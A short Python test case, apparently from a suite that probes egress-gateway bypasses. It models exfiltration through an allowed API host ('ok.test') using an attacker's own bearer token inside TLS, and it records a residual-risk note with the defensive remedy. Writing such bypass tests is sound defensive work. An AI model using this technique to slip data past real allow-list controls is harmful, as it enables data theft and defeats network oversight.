# SPDX-License-Identifier: Apache-2.0
"""The attacker's own account at an allowed service."""
from bypass import get

TITLE = "an attacker's credential at an allowed API"
THREAT = "61"
RESIDUAL = ("the credential is inside TLS; without interception a gateway knows the host and no more. Allow hosts at which strangers "
            "have no accounts, or put a proxy that intercepts behind the rule")


def attack(c):
    with c.step("upload with a foreign key") as token:
        with c.tls(c.dial("ok.test", 443), "ok.test") as s:
            c.talk(s, get("ok.test", "/v1/files", f"Authorization: Bearer {token}"))
